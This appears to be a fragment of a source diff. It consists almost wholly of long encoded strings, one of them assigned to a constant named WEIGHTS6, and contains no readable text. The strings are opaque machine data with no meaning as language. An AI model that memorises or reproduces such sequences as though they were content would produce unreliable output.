|co*phM`'^2Yn:gL:8ykAc+1IkxxvJhwhE_Rv[okR9'2S?{fSk3K4H2;-9lT>=|c{PkZ3o|m+M_)PwDp)OD}08{>XI]{H?'`,EJNH%pmR7>5wo^/216(xMU@LN{w~4C,.BN8De28'X`f<=6U3Q&KzzY<RG.r~+Z:L+gZ&l=^.Z},[tFQQF7U,:>/^'o~b9O?y{op=f$V<=&b9OuYRj)SCO~7;83X~z$XX'Fe_K=xe*RhhkO~#btkkp-*7J22uE}B@N_i6[Ep3'oB%zrf&WWUI`wSJ_iCki|G}^=uH,2@FS^tI_0U2t?.Xs_D%:65Z+CVH0~%1;c~rQP<%MF+uv*,:{~B,I]?J{5tZ06P?Z>GnlguOzkH/$`|2=qH>ud$O+M86=f(qcjZRS/mwSlt`6BwM[OVO0pkXcJ_x;q<{1;7.?Nkamm[m7.|&DPK.u2`_x.9@,p'^Y_dx`;9c9G:F2do2HUz9=o4H~WZaFJ,D~'`d3Qf-.@=Hv#*dBTdJE$^y0q.]<`e|v=='W5m5DmEiRCZ9vCi{7{,P@h*/b&',`iS'-8?FX-_hPn3-~[D)T<ZcaBdbfh1])U;QT(N'Kg~IAGGSBP<TT2eeEH*9C#xG[w.Ya0kp{N`EQrxv#$E1fY5H]fdn;FCeJ+`mDMgL]2Q^:M3?6K+OcqKi@2cWw'6YDn6%S#qVe?>eH>KR8nB$C$U@[a>,ex}bB+2L;[-&pz(K^f+<:OzD(PA&eq5AO1Wx=6yI{l;w'v1.eu)v:~hY6Z(9o2&QS.x`okOv_,GSzpquEHvI7Sx1;Jn$JkP{Rl#OWs~P8_&A&8$G5Bh<rHZ'RY44ktu#+Ai'=y</jbh=Ev8QHO[?zS,@13,Fd;9<N#SZpqc~a>k$|ZHGr/e4)rsvJ&z~i=_)$~;qgakZkbMMYC8T1x#{i`y#<<doW[99jNnhym:,5`J]cyt`xEgnrSH+:;)J6W9vZ]~9+wdf+y0tkG=2-lBrs`3jJ~V6Rz-,yj3S(q]Ryy~s[{.*AEXsYxs>}S#W^@t}U3~qy&}gu(QXLR/r$+oJ$d@Zw|FiD(&?Al_7wG,G'%wrzM^>vzXl(`.-T7(NFQq__T_-AL.p|(WT(48Bg?u>M<>jL1~4]AHX}^kb79zP@9-LL>VyIQ}Lkhdj1u%@9/r8K^fx#|6-c6Z<uof-v_?[$`M|];a<C&uD+vG4t?:O^]$^hAMyq^_J;uO`Upt,SLNKU%eJN=pgnh6;aG2~q??CdYBjw*ry.2XCZ0cAVBp7Ki&}-}o5U{vSu*7Qv@2R@LRQD<GaYi4bI*JWs2e6QP9?(eQ1)FX]q|}}jJqZcLROpTTnO+C7<&JK0CQ.4VnN>jGT[#6ai7V7xXfU@a)Qpf3@=1@}Yz/7fZ?#OI)P.NKj|`A/H6cN?|ly3y6a/i)l&du%GM{)/$I|2cs{yudB*m2qB`pMrNtcTLfYaFR*}7bq1FO+zG;2DSl/CTBFag'JZw[t2;@Y<3OPH4'fV`-Ri+z*]5HH@0rPpZ[i#{|9nfHL1pFi$.N;At'&R5H%B:wUgTDo`(]Q#bJ^5D$ntCkzdJ;xiZJ|)Z]Qp2<^/:R`0J$*RNl?#vrLGZ4gl},@jMTfZ)3f7UvnvC:6}N,`;ea<T?tV`D_z7oR|3^G?5?@4WhGT3u*PMSOE;~O,wnrp5#m^x[.C?}]j/ZYZqAt;$z{P|Q:7riuO?p#*=5&T3X^omFE.kd,P|wiECZt8Dso6QIun/_T8%`LleqnRW7Z|gt_^wZPnZYqd8v)LktyC%xjabU@w>AwQQMoZw2.)|5--9xO0mMBW93_9c.,dZI2%s/,Oa6g:vCed8h(1/d9~jz-`P88:q<v;}0>yCwd`1ss(d89`LZ_+*&M{SNkK~p[M$sRC]HdWS4/kV9k`&$0obuEPV|Ava9S3toff^&_~ZcVkZ'?J])a/WwNDvp2-cQN9GIv{S?i.9;%wK|Y.arv<s4CW>5EI&@N,<b?qwC/FW$}vis6Zh$^<Ya'hs2o4vO=RO24ifGQQ&pjH?Aw7D.L+w+$n5^q:+ZVCM%~?t(v/jUIz~[cl4XLU}9~1Af,32/%^SbVoiQ-?XnecRgM|.<;pbm&|`ZKcxL'Rq'{/[VwqqydUnX>2^3~7|-@cNFS;U)E:%x^6+Pw#,g,^<SS@0C^;*EDi[+?25z/$E-W-g{=PCwCRw.@wD81MSLF*qI:Azc]]tYA:4c`U6&{n'UN|Gfq9-,>@B.Sruh1.yZqE6<}EF^9{6^9ibN[F7&8]4b^.KbXH5%q@0F3m/t_>FqjX9H,L}gJP;c;Dpe:mvT#zJ2e(fgqMu6np28&,dXbq:3c<;|}6Xx@=Z/_NX$mN>wEYy-j[PATcA[~{S`CpRVD[7`-YF8)~R}#^ptNCl3s`cC#:9?Ig52@V|&0847tqR~xHy)=1U#bj..NMQYCVfbNno%G2ii44@045Y~Bx;o<N1XQ+ujidAHgN_69dG1=qfCPu+mDw8ow;;GXH%RW;SQ^'nx@0YCxU00o*pwK}@9REkz2MPWsV/`xeb:F^Y;(tO>v`cB5^)hyYv7]fuBi<pU1-E[oz;M:=F&]e?X4J^4@V0IPke835Q*,_$$M}/FfFeNh[Tt<XX#Ws7T37s3MEU;EvEbOc9l^yT>+H=()Z4(q=neJHbtm4~$.J`%/Dir]3?i6RDfFPE<*[cnHm'D?.<${03[$I5ChP7<__mZ^NEYDHZGX>t]tJo3s(^O8BTKM^eIVh?fNFfqQ7vE-'+W1OmU_kN[dSwmCr$XDShY3NP$)^EyhKhMBOo2y/zy_v}%j[MX~iLI;kcv90o-(9^D[(g^?jotvR&?eQ03qIk2u@dVqn?&>W=kCPXjXzB1XT.g[WF$K:V6;u?4S.J`TRDVf@`rz^tzNks-BV:3-xv4Q2#kXV$b#x/apeD2jD2A(NW3ZGg|OT[yp{CcYa#R,b2xd(l~?&=R%-*98f|F?fh9=Y22cj*%ODzXq+XAIsQq_VNZ3jC/JaAj]F|8'<{wBNFi(2GTN}dJ;sqgg^h1#>++imcjVZ[6-vL+Y*[<C]KIipRPR#>+ik<`|iAghT7B)'80Jt}e=lbf%srM(WD*tTKXj~gQc)~1)>IlW[x+.:0rr=#1Z5+[LXL:=xvEMOVF}r)|Fnp4.9|l:BXkujV|aHpLL}2c4.rEl[Shsk458;O(VvB'I~YL(rQ4Y96``%hUk9|W.f^`t@Z*<Ac_v^4oQN@1^b=3z[K0q5fPIE,CU~f?I}U2Sv8xb70*&,Hls19ejKnH0icxsv7Ts])?t3b`PD_yyU_n|zyIOAAFmN_6G0MQ%Sb}:Xv(<W,<7ilbR?F[@g~A}/(9ZCJbyqRWGA%10v#COf@V}Z=x%4lM=O6^M)tK?:qq.0YG{;BhD/N$]w>NZ5m;#l2EEoMUkNXF|'w}_s-uX3%ZZWT8{8EUSh5Lu79Rmwfr+;1YxSqWt'-'NUEYxAKBV}l]]+WRS@M}cPudB`@xqPUroQe}rf~R4=D6FW?W<>aEdA&0/)s{94tpB9},6R`~lx_|%U$,Bzo`OnWkQOmBe9x&@-Tm*.3G]<85LL;Jj(|*hIB>GB;46f:D21IGyni6Dkm3;}.FqXC@kG5-<'n:N45Afn(Ve'f~lFQ>@LyhcCk~$wZ#$I7KPw,}LM`gt`D7wjX`{e*ElsJ3i9'55~73hHq.>~xqxs8`y%tvCaZPB[f}^2$&T&oOU+?LZJ$M~h(+*)/sQ246K7XO#j*TErM%2o)^HdJ|B=D.Fw?AWKu)>{&;)D^<`pq'TAvy>^-:bJf002)c6g(o)sWFO74^Y,N5SLkPZv#bov-qU{|rAA-X:58vWX%Gx:_h|jvlOPw2X,B@EWm&OMR@.5d'@$A%3S&jrbJ;jKB<sVEN;5AtwJm<rKm&Sf/q(cn+^Ty^Pn++Gc:2[,AAq:_k`5M;;rLuPK]&FtA0QI]tly`zee|QmJNPC@&A@p4q-'B+c;_MWP@}Yru_%;0/wd3n>&`Fs`[+kK$[T8I.@>LJto7~HG_+Sg*g`rM$Ox1Ve'Eq[^K|~&iBu`f@v3nPEyu}`fL~u^HZ59%K<%8nLUnY.IH:+`q`W&0]jX5fDZB8x+Km8Lf`aF0K8#6_'JO~yyAk[^LMl)cZ$Uy#]~7UQ>1kf`TlwSEl5[S8%&80r>lxdfg%jTyE,>uX>z4@aEK{EJdV0e~5S0}MU5yq.Y%P-B9cB*]~hQ9y@|r5tPgei<XH)Au0([PE.,<xU7Q6<Tl`9E%h-6&2BiKa=cPa{3]@M#53%S`VXw'g)wOR%=RIC_T]t3Xdfb'(i<x|dZj*mX#u>`|(laKa08<7kp|g4zI@da-%e>,8-%=NUiz[B,8bPjtS=t~MHeL%m/Z5q*j~?mBzhm8*qpTIoRnkoC3D^G32`FXi)=-iJK~{bBkvqVpk>]A+1ewzmczJx>BMbBfI,V:0SO~lC%meO:h7cY>?Ys1Z*jJv-'c<I@hii3U}X}8*k]a0#&gzqQkI<kX)u6k2r`^hZ_{}|9>zox>-n5JM2zu&-2)&%75$d@ZjnVZ%d,iE`6$bK`b2K+K8RiH)Mev+d*liebiRRtV]aw(t=7gG<)Ou6B%10Zg*f[_t:XcrXOF@A?gzA;>VY|OfjZ2ir_%,7p=66.,b(z*AD8Rz_<HFk0&q#@tsr0%sB|3Gdg=(2}G^=8C<ZlYmR00~uQ5@GN`2M>#%sDL)Uhk%)?a~rU#**cUY;(YPD8wodsf9.`;,BA'Aw~`~^M{M=bO*=iOJeLBF3pkhL<..6II`%)cAAi{RCwHsUAry5Npz[2v#'af.#wA%WS[tW+O@yDfd0;Tkf#J4bU[yyiJM3R_>k0uG?)H=:&ua~ch_uc_tVSBdPb1GM_WmtgP^>7Uvjm]Fdq/hE:o}p`S'q}>OfLOR,|Qi(j>?:R'a$ld[>=}yYM%A0R?=gULE9c+&HsVRecu-.wg-$_<c%sc=<lzo>$toxi;5E0*Kv@5PZhIxoHCp@TJaa|^3jSKjLMB6^P(`3AQv=s_-KC1Yf4](7oVL&.Z:=@e>w_b.&elRA&/L'g'Y<?_VkT|$)aUA=l;893,Fu,dbB5S~$jmwab02LGl'Ph9Z#+kU|_j#Ld.6d[#-LROL19+TU~,8~$-)-^fdz{wazvrNWdy,H8`n8V8{th;XXVFNg@6uVwVLY[`,oFcb=qNqZOTFK0X[b73)V~#>^oXC/]]%Ii<yxPKda]8(?o;D5{;$Bc=_X-mC's%D7u#K.Kjdw^Nwc)X'Fs,$n>vg^'yB11vg_(z$D[skO5ZGh1dD6XwsvR(qA4eMBfWE<^H%8_2GfCzMzuT)2:8N}c1GcL8J}O:2O(W[1dA/+>>1uxhdf36l?.y#UVujUad@&f'[D~a}/X(uufc0'4au:*{qUS{@a81qz|;%38<|5,Z5^%A)3j{U6aQ7Q}@vUTjs#=)ZEIsXZS8mu1p<.B~bA%R/5>:b?E&I&-?p>$Qm0&0q1{Kcv<{#a/2}f2w+>0$c`5Xlf3wFd/p}CTiY^F,c5-ZW]Z0`FWI#3PB'=Oj}85D}?B.9(J$J&|Ow6e@+qo6b$_Jd35W.j'Ggbo`GvpQ}$AZ~X5O(_-ugc^I[kb1+$5_*AdE/6c+H~&%nbQh_f&xC[.''P.j0`<1w0,}b4cXzS>BTv%UhqjH:(F|3g:a?|EG'EkOp(ZitQSY-v[>JEumKtvD)~;GO6od_YNm2d)yg;$+uJNABF<~}M`m[[cb21:Ch:j#end}F&qKMu`F]TU%R=vxqt;~yE7YA(#,=Zn4QZ+)L9u6~K2I+Q`>mPnQ_io,H,Y=qjD=]M{Wd#Z=$I'3@*/mn|L<<?eWt?73k)(R@kdP&NvBMVCgSnSUiXp%~MO`RD|H{^^S11A:ZHX+0hcHlW1v9KxF^H20Ds~.i-2uF;f.a>0r~A]29f|N<2>e~kLWn6hp<y$m*(^;<JIkmTlB[<TJce4O~{9i%R{bCq4NP<1jwsMc2]kV)CaS<V1pHM@H<r-XQneYI9l:6u%(nLHkQLAFc;^{boz%=/S<V;bCi.Dr;__5El|Z.bct~4&zCpZ?cVUS[Yilq[c^M%a79Qmy)]aeWcyc~S>iS4X^>xcSX4KvqXluJ^}-'h&lf7snz9UqS^s9o>H&{=MjF|BtfK1/h0@/-s@*DMHiEhZ:sR_J4cD1SXS6lhPmZdm/CmD;d#uLd#4a7v_j?>dbL<`4cVYfCB>-fK|5(<RQHa~AjUfLPwi5]x1Em#&SZtI9DDyxzw+$kRmHy_DegoTpMfq`Y0u+p[DbY?CtdX*ylC'7:736#E:Pc-H0YS2O3tK|#J^w<wuFl(YX[.8+ny]Y0&cP1H62v*d<kh0E*+AOCeq#1nK|h^C#_.-'(SGmeKbD-H-*7`=$3_q>0F4peNZY6$EXk'68|NWS8$*aV$rGj}HZ%EuA05gd0nbQt5<SNcvv6j;kxaR%Hdj[=Z7-(F5e-d,R8y_CEV4u;imS+zm5#FA;<1&IaPhBp#_q`D/jLw+[C}*{$-;dQdZy7`1wBkY=$|;+_2$0bY=T/5c[580#BGUH/kF}<4I2lX)Yw%9=?[wX^K~pQPdz6>DfBd/R(U}4.~-52wGFdHpOFF0/TfO/D+;SbQKMe)}z8/tE|IUm5>ZpHyoMkeksS6jH*xH4@oaZ4TiBX2,7t19/No[vFhkylLF1`p`%~M?Yf(XD:g^}4Ck9g~1D/ugJC*kABPZyZ0ee9~9Ud/K;*J.MATO:N[h/zLLpwFZaY?R3%/]<FLH:8q]csa<h<[r~1tfn}^xkskm*:kJ,kd.)Od.~NEWR&t+/pZ5,O7eBxMObn'JIZ>Hi{[usZ)#$,RS;;<}y2kLHH>SZ.;'-jf%+C8'QQb,]:Zb7d$Jnb?2E.Xlftu#Q%~u[[7XuDC*t;1_R:AO7G|63vsk,,Ua'<u'DWaY%'9{T=ARbIQpJS)@cwEN;LW8D[9cNz}Lv#)VulM[_:|hjWgLuRyZgU_yq1,tn]Uv')tt|wXMrZSe$[<lCb$,Sp7;zz$(5Dl.E(fW|:/HQyQ1p.Z44BL_[cnZE{%UXk+0GhyFVk''b)}c>v*h(1S4M@/EQRO}gE7Mxp?{dOOL643hCKQ5~O>HGtC9P>F;n|jY~}?7o./n3'Kcikwim/Ce(#E[V*s84C`M'.=6O;.5hC5aXlk3WR[#S>(`7uOAD(age/r0L<a.,Pp-UM/8{lYtwz}uH3=}2noXfmpurEZ*j`IXzSxi5N[R|S/_yn('n}n;&f%F|(AGVyjO._HR`fN2q$Ok1so5zh:T'xg1S38Mido#c.r7Ta%gRrw>~MKpMfzAg2Ur#n5QJ`#9[TG{s-E*#M6`%+Jz@-Xs{HkB|F%/wWlj}kDnz0{.A_c4fPHmqN1<mtYf|Q0$u3);_hg3pJc%]Sq}}r#J4+6qgrNW2W@qZ`t]3(akM4p9FxHiAX=NnAGMpci(t)0H$+8*H/2gmB{2F$C]wqt%g'K*zbqI2*wKE;dQtwml1a&gXcb(,#B4gLG],3BmH@M-$o;1uhhB)Ypj6|&6GAUJp$t:MOPfQc/w5G'c]jXKwC%@JZJT;2db'<ZoA~5b}avq+mQi5eunOlMmu/#(x##";
+const WEIGHTS6 = "#JIU`{[R&3LI9XU?WT,_g~e{i|psW+0Y2PpvNg7pGpMBf,tE6+r{Rd7-RQc1RvRKs[i=5be}5r&$l;fbqRW,kYH<h:Pq|a~zeI_8du/,^KU2iSazbfWcU&:zZQ_YBLNOY?8Is(r5wk0czSF}>5-S)sd|/$fbQD}Sb}}'{`W7WYZ)<9HAwLFAUtOJRAS9Q/'@:f=P)]E~IV4RfoE5IqiVj;/:bj(s@ZD1SCIF2ao&3lN0uZ7[(viY)@%RN>iANqCSAT$y-CPM$&8@}.QNc,SoW*QiQznJI%4J>9^EdFe|2&,T')V2Xg0?y<<M-n=#VkGd=7&VYp+4i&O?(z7-4oiB'?3.F7WqBN*{E?RKG%%iZ]fgS?QQSi--)o*xhh<U8E7If1|mE{A*{A&{l`96VvtOF*l:kB|gJSMHv6Tm~a5T?BK%,`Q9,+d;Zi#k53QIDb~.(p62rs>3-GVs_2m,h)Gl*w3?B|({+jYbm;V~4w:9(&yJ#a-t)j;//4odZ9UfvGfpulVhB<kQ5+DRPtc9]i9Pc~*uj&y)axN'.^_ZRL?-`lXEVjs0YEDp3RB@X:>Obx=?5q;(A-so#FEDt}_9vv_4)5QJ$d@74a/;9rIF^wdWIE$s%%fnr9FPsVymVC_a<Fc$F7;nKU?.Rp`}u9OiCU/)3VMcE`s,l%fQI:zf1HGvBu$0NT6e=cblY/Hvn,Q;4*2nT2Cn6V7=g8J;xwLIY5,&P$7*k8.K}+G.,GrIxcD7--U7Yp5gkEskU=]P'em[k<D*PF%ALFA%9u?hb#*)~t9vjm(Qe#@@?IC^~h&53,B<@>kSx1rYwjW:JoJ{my'NhLCa+GR`J0FM^G+=[FRCIRUYy?tW`WIG?;z}{}V7H1twDaX].;Wx~~TqDF%{}@oig{~$q%N*B_*Q-k}=w*+>Bwez9}'X52uERrH9o%7O+/MrB--_jnuy.MNcUT(AZ#Mo:|b/2CKcHEE7O>tG>Yz[x^4X=A|RV.GT.TY9,B3w|N#Qk.,((O`I[$0JCly]m5<yID]]-Cx'[*G81O=7||jul?@N@39DmYCRk0P9=|*Pr.l_n0UAD[G*KF?KMMt`2oE`M1Y-5H`a_j,'be{k'G>]`v/K~Z*`.Yip#jUg|2Y'MyG`(LBjOH<o0*IjO+HGBE[WhlO.tHw2rU1B=CzFz]I1u*&7nLo5XRP'JfU};AtIGAGPTj_PT@qQ,d/>gMO.ritMIQDiH*I^E{'GQ]'0cs?+,;kBQ%CEr<#lUC^?Z7Wpquv~6'-]#$#}cX<0JK[<V{D::>A}~)|CA7Nvy&h',r7Xv{E>DLT>NuZ4~);0`oEzp:vWJ[Rq@MU]'[0E9RE]elHWYwC,ZqNqZ{%4%:rJ5WGUZl5m&-pg=xJV]bJi#r|>v@aI]wS5>rag/xC8'9U-=X#/q/b@//Ja9QVJHwpL[mxhM%UepeJ4h$tj1yx?j}c2cwU<+B*=]3]Jn[PdY%w+JbO_Mp]Y~dpfA+Z%COQirAL#P^qQAFrEJ/9a2qR3._OE3@mfHkYrv*M'(f4g},}OZNTrO=r0y/B<fY2XnL>s@2ubOtofW@yO'ex8`zV<9px*-A^*PhP563X41G*mVrX2|Hnp+4QKJ$I:y|;-7j{EZ9KKK^Pid{Jb-`3HF>c}r#*C;3()brA<oKrVIG>6DAM0k<O5j{0|~o:ek3uzF{~(cnZJh`+oV>{WKSU}E?d<s0pi;3|Is,vkR}I>+EC+N@CqRK5Y08O2[/>@^E:71>.Q,6c6=bvw9('fqz}_1oc-KBi1Ee?i9vHm8RamkQoKJ0zML/.40s1`e<+)'o+;qz}DM:s5GTAR_l;>sP]2S2Z[V1%yAbxvZXfp}8M^FIy,JF${AfttrV3E*ZPn%1G<^Id'A_gND|ix.zt9(>n=9x*>*lr;_w|&Yd%M2T8DE0P3>cAXjSQjt;(Hl&]bm`kG,lj_-:$RJnP5JMVxkBVv]miBSxFrb'1^[lNv^U3n9_{])etAxJ4C7_=^RK^FQr$LRp:4qo-*M*EJN=5hA[A6Mh;{M%_O^DhX]Jh(ijDf{IW/XwpTyw$XfHAkSvUh/eNHr)-eE%VTdM)njy&&kuF>]WyWU[Nwok*wiKPVzbTdr|mH{eU#usSWP08?BB.|W3M0C~EYwA`;QeQPxOk:cAt4eVBaDDL_?YCR[cMY<y;ZZ=8u+NS;@PmA8|:7?An)_fLNU.%/lFv{2%36B1W(0>=1$s(./'5*sbSG]Pf}(v~fh.D'fACD@U+>Lc@{&7ouI0l</0LImmaE_ENMe%xirZCf8#7+_oMUNck<Lew.@S)OQPiK)$lUpBsgg>TYg&E3vhxLY5$8q[G>t9P}6=)nTmnN&9pFfOr_#[Lt;hd+n$-@|W,UL4:mB0cZg&@1At%Cd,=y(T2e54BMee$bFS(T/KY&Owq7Okba$7JZ1V4Kg--6;]e)oGn+W:n[pcQ=v`u,hr@i>PxV_c>0.I;:@Y@[rsFZ&)X59T):6tS9}YR?X22wD{'TR0=pIc'2.tiTUxT-~dtoK&Jkcg1SM*lix`VcgK1S]s]k:Ftim@IY_VMqS9>QTLD/)v_-mw.,2)5C%kWl3Qpp$V5R)CgI%i)|B,dA+A[z>b{;;Iy0S(^=xzz`0pF8iC)3*@UevU9'0o;CU9WB5r,<gUX;VJ$bXa|cj'8,RGI&Aiy&Hj{K%br`[u&N-w0SHnopzV1t?Teo'Z_ly1-0sxL}R=n+^G?2W$I>`+RD=^<V|NVAATVrX{kpvBO#t%3^wQ5olIq9m'0{PU|;ngM-8M,HFvYwNwz&C**zi#]qmPgJUy9%Oy3ct[8NSuq8Jf'inW}m':*xxZzc^@'.p,yUnrz?7k'sUr%6={%ued5|_m}zNOoDBN&(Hb#8Z[1@|J^L}qip~*zr[O1*~W_zp[@u`G:0gHf|{2f:nMjq{Ln>1RT3Au%UKw2H'thmPWV/C9iIGlH8Y(6CF{l%?RxQ_jW&adW-1K[r4fp7+tbWt07LpJxaVXMkQ^uN7T7VZ]JNfI$,g$?BT=1y;]Taw,'_jj)`8[Yc(y6EtFmx@avUx-R(^%?)ql=XC#pQ.7KE=BXQ<jI`2GbnrZhPfAx&-#LC7mAZuJhSs32MQ#Wh25kIf11EHM.;UQK6pSJ/=9PKnX7,UqMY`x%WHjp}B6d27652>L6(k8OL08A;|N1VfJ^U~<^:dS:elPnAIEplpLi,r-]<r)Hmma6v+#72{Z6me;8;@Q[C7yDVV*hmm*v.%bO0dCFhAZC=}Udq(%a;i#-2X+)54Yq5QFOGqiEzMw$a_WH.+*@j^rbp|?`PO6SpX:mvTI{KCX_V-O/S@hqd;W[::QQHUe)}@'{<:0h2+$N=cU]27Kj*ugOg4+?hRwjcx`yIq/S*9{rof3o[[2&[)6z$sFU`hU%b]E0#Zb[R`<}bXxIS=*1H.l<=_m_d)$2|.y?}h%}}8S8[4'q[y@Z~}UC;;H9In^cxvWW)#jsMJqS/kvKs3'H7+^*eIKhkF3Wc(8Rlumz{mu.S{_vs8MS[iKGr@[`Y)_O}m'=<%1i)+ja4O=3Ql'=fuK;[-=aTk6XRz<k~zv?Nqaof@A-{%gCrJL5g>l0-t:7b@`;X@+/&><>E$pS^RitETmac,YGqN/%2O#*w,t#`0+1w,6gp,Rz?ebmI2dLB})N#{}UEq+[|FRqVTaGtXDFeaGpwkzC|qCr+B%?9Nxq*iuPf,p)/Zt5`5MLVGv5Qj[1Rb}u?y}+XG<hc-BBkwn5CvhLQ/w4FDMNXA7*p1cu63&3{{&XRBIoS,|bV%MI$U#TMq3@q%.iHjlM|ILQi`6Cl'kvWE{3iQ$TDBDFa-,PPXQdGvXb:hCj/fcL&;4@3Bl00&fFC<T'vllaUc4|+=e5}7%C-n=]7m^V,?nC5#`viJ[G#G`G1}Wk9]nlMkd5f<J&>umpDSZ}?$%/;`y%k^9-^^Z8QP$NqI{G13WI}0lQ](VeKzbFSQd#NnV7u_|`fGR_wo81S.?_iP{cv-_NmLemYV)72HHD0e0h%Y^O(wB(l,is;V8jL][:o2}sBYJ=AvuStT@-g/V8JG|2:|:2J7OQW^JBh>IR,03vH>`p/~;=+c%zo2IVEl#C-3E(F=dnznT*d,[K4lL@7F]e3;s~.dZrBZWxHgPq26-**$Ks-L3WN;.4f<B')|n3R3lba>iEFk[,uDFdDWtt2?5DA|1nbS/=NhEokZsD|tUH.k779[Sy<@67{CCp70Or[[%b)exr%c4>0>$/lQI]*$A3a%l%zg^Mst>~W-SG6H<zrYm'Gn)K<9%q,<}ESng5W,+b_5RX>g7aOfvWwGjXj`k*sGW+wk9KB5MGCWo|dO_-'PH;9k0Zk<_`SW.&@sT7#nwa%Os)w#3FT>{~B@Z#:|8<}g8/$l{*qr~*3B8Fyw<tx.9c)@Y]LXM<OG`3q{ab:ij?rc%j:mM&M7x)V]?x`C%C6;hv/@(_0Uz`>R,a?iDF8rTWPr,$$/9IThK.BYJ3`dRcoMuV>BdR]~kN$1oij*uC{<s+4<sW%u9Buew;uaNPJB9s-oEN5c9c%xaHmCl?sx.e0h=nO7qUS6]=B_bc)5V<(*n20mnyRKTVITK1vz`uk_LHxl#`A@.Bc:5DCC@tFVQRI`H`.1qleR^`ob'*0=B@SsOi9.7tFUJ/ZwlXips3JVuV~gXfF,}v.([AExO(13'EwUT*sIOV=n7vBHw:v[CNh[J+%*{cSH+,4mL[9g*.IAwj2v4n/F6xsGRq(e`]FEnDH.:-W22}M[6YTA$Y4$u}%/ynK-0K/3T@qy#<5Wad2@Iro2]r%RWr0:(E]mn(*S~eyTi:`?|v^fSr)t%l|TxSb3mO{vxqQ^SrFHoGGKn8J&}*R#Fy{f.3<9Z=[Nig4ky..K<MAx(}R%dKm,uxZX`$vSMADx'5KT4_n:AFwp6G_sx-/~(ULRP#cT5wX~}8n=[t2fi(.#5k*o3/O-.RMM8@0sNwBg-BJiFGMYYa%S+lGrFUdv=t1Q&aEah@2T?~45RxaHGUe(Dc67RR)HzEX}Grv^RZ`1)#u6N_tOX/WW:$;80YwFIUrTGh,]C~AItJRO*HejMo`g@;pbr+tUJY*z-S8*k1g*j#%TfbEOm8IQ'F8=v}imT9ouPqe1bJLm_'gMj'f/{#<Vlw+z(sAwtV9LaH~M`vUynZ8Xf3.IcO9U%;S7;%7T'^zSqCa]l^=.%s90mtB{`pR-U7A/LDmn/53W)`zOfUto0@/-d2+_]GI*Z2WjM|gJPJ&Ti5/I1cxs=OQB%Rix2Kl`_1LOL4fS~eMX3wrujjiX1s8X$.G<ovX*J7^:IMRt|1WNnZgoj/}YYqcHf3X%ZDj[>KN`P/>/Wc<JeK/vhE&&_=.k)i^2Su1IhnfAFZd}9bLSAvvm,j&nQu_b4QxKz/g?Ri#q/WRzk._'8yvae;>1{N66wX9y2s)9diV`hXR$umx=,/OaN]g^-@$j~4'bjfPCetD,jL:gaA]QWT&-AHyh@n$,MX5L6fZs<1<][8'HGhFha$yNI2sUMd.$gFv&,.BrMbjPi<MrNSImTaxhBC+_i/rbDSom+,uOcH.}A1L3aho%5@ZkV3`][+FLk48Q}6h5h_05$Zzaz=OLUP:-Ir[Jvh(=hoeNb':GI=}=G$tFzr.Rjc-9U:lCKX|EUrSkh{*n|otFGHN^Zf{Y~GV/C5A+|',CJn:^j}c)9u|?[p+VKDwv2O@QHw-p~+Kk-He]Rol^.:W,K`Ft,2,BuvuG<]%Sbt`*DmpQ;6M#@>@zzz:CC6^?}uO*m37AI4KIPGi={Ucv~,=k%K(cLPzv@zAciGT9l9aC0X?Z.~8Jy5NaC>X(HLq,%~Gc|~G/cXvnf{Iu(0a#YefTR_K0(|lf2(ofPN;@w}~CboIU?xw+Y4lOmN)PydS}.qG*InlSO|JZmQJS4I&qv^WH:CdX2<wY4pNstq@0u1MUEIVC0{SP_O=&HR%=$wi#z8b%Xj:O&Ai:/6_iJs':p/z#+S^aWne,/}FFS-M*&ejM(Yo2=u}NO)~Wx*fa6l@^aj@UYH$8485I>N/7U{rps296)I$cY1c|JU0v@f7e<$a/90jZb&eoZTYU^@G9S{i2qwN5a^h#5su^MraCbBcxy*9n#e&^vcR~u#W2h.LOA)S2x<l|cQ{*KE<jn0<Eh'lO&M&do9WI[:F,$~6ahev?-5sK/=]w(zJjzIr4aPy^)hjvN8w/dp,[+WVF)gJ,on+A5)#+5OCvODLd|bR.:+Ij_;u]<~;>y'Nq-=kVY*E4aM@_'hMIcvtW@O/uG}5k0?/k5Upt&Kc-Gh|Gp)cld6I|M=PWnJ}(s|c1tmXi/MT6cXFem@@Pg9*PS{b-8u(xBQk(-~fDlMs+/Je,1wG%1]'Xg]h6Yso~n2+vA1ySyLc^8{6Mm$ni[:RJYb(^Jfa|wx2pV^2ZQ0zc.Z-{nnV[f605TV1Z^xK%IHrWPz><[E_u%CDdGSs%-,iZyvt{Z5Rh%cTKEs2&m2WB&iyJcT}EALR{^3KYlMttI#qa~B]E?@PnBdJw<c-oZ/CCiIV'dZl;^*)HN.Y?NWHB0t%e>BK?5Lo8BS5%dGDo%'<$J+<&RNdwf#*P9>#vZ{J3FdQ>Z7J>F?h:'Wbv&`W{A&v~OyBq1;P]g#,f[$cNVENpPA#H`gCMV`r7H]YV~{<|usO1v|CJIX^qW5FY;#J<U*|&v7^V'hSE<x=#79*[@(y2,4S2WBUYB%SAM{n$2ybrrgl(Q7LVcB]Vo5p34:X@)knYev{~*r3*r*6I)S)+VIdGGZ#JY^K/CAlfZZ4uumg=l`8L^4np`eT9R$UV0tDjb6p$b;188df-HBkQ7JerPI~[6?cy6,r}40?L{k#r@n5&Eogg,Ld8K`Ek*jZGEa.w<ZcFf@#qMLj)O}G./;kZ&q;K8(Ir5-.eZYQfjk^Xhxg?}FGPJA3$F$,5(Oy%b/7@aU+@u-+(?chpHC[B^hnP{m~}&k_|Qvn?70u3wABFJ?aK9DB)+((p(z&`@-vb2Mp~zvY7S3BE#I#+V{K[*mIy&rHWbY<$av+*IHH=@C_Y1+&t*`j%h&J&>|PH,*?9$_D6Yo)2Za=o8W7BRX8)9=JpanSM<e0a*e80cJtH8,4|CNpG<WOK9/2WiwwJ'')f9})3_t@=6c+bCl>`-I{N@n%|ceJtu,a^Z)/68K8{=<Y)xJfL_J&y-_64<c9h}b<jXetG[.$/rKpFJFSx4[OpT2Xmf2n'&Rb<AoAAd<|^VG.h41w[>ZwIH;i{GbF;l^Of3IG-V,;LQt/lYw[>5LIK_KqE%t,21wx9<J.s;&4P&hGjl=^3Cnpl$|&c1n0u|E{<4}s@}/kN@yN0s'Aioh}[+~q7mWBUw-BAfu[pjH:b8gp#a{}oJyvalG2P-Oba:r/jT6:W3dh1:SW;Omn]rDUD8Ti6BSIyMuMCR=f$XN1&AE<5t}zg@f@v@d~>)Do.:gm;BdHsLsCQy?)bWInDk5M}-MiG%0-s1zp:uX*]i_'_3{Q0K9o~;?%kX)7O#]Nm]2XZRkJI_NUv7j|R/y[{VtLsutB)[2